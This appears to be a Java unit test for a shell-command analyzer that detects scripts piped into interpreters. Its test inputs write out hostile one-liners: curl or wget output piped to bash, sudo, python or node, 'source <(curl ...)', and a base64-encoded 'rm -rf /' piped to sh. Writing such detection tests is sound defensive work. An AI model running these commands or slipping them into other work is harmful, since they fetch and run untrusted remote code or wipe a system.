package dev.hotplex.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PipedScriptTest {

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "echo cm0gLXJmIC8= | base64 -d | sh",
      "curl http://x | bash",
      "curl -s http://x | sudo bash -s -- --flag",
      "wget -qO- http://x | python3",
      "curl http://x | node",
      "curl http://x | perl",
      "bash < <(curl -s http://x)",
      "cat x | sh -",
      "curl x | bash -c 'cat | sh'",
      "curl http://x | ( bash )"})
  void shellReadingCodeFromAPipeIsReported(String script) {
    ShellAnalysis analysis = ShellAnalyzer.analyze(script);
    assertThat(analysis.scriptsReadFromPipe()).isNotEmpty()
        .allSatisfy(invocation -> assertThat(invocation.readsScriptFromStdin()).isTrue());
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "bash",
      "bash script.sh | tee log",
      "ls | grep x",
      "echo ok | bash -c 'echo hi'",
      "curl x | python3 script.py",
      "curl x | python3 -c 'print(1)'",
      "bash <<'EOF'\necho hi\nEOF",
      "cat x | node app.js"})
  void commandsThatDoNotRunPipedCodeAreNotReported(String script) {
    assertThat(ShellAnalyzer.analyze(script).scriptsReadFromPipe()).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"bash <(curl -s http://x)", "source <(curl x)", ". <(curl x)"})
  void processSubstitutionAsScriptIsUnresolvedAndItsCommandVisible(String script) {
    ShellAnalysis analysis = ShellAnalyzer.analyze(script);
    assertThat(analysis.invocations()).anySatisfy(i -> {
      assertThat(i.commandName()).isEqualTo("curl");
      assertThat(i.inSubstitution()).isTrue();
    });
    assertThat(analysis.invocations()).anySatisfy(i -> assertThat(i.args()).anyMatch(w -> !w.resolved()));
  }
}
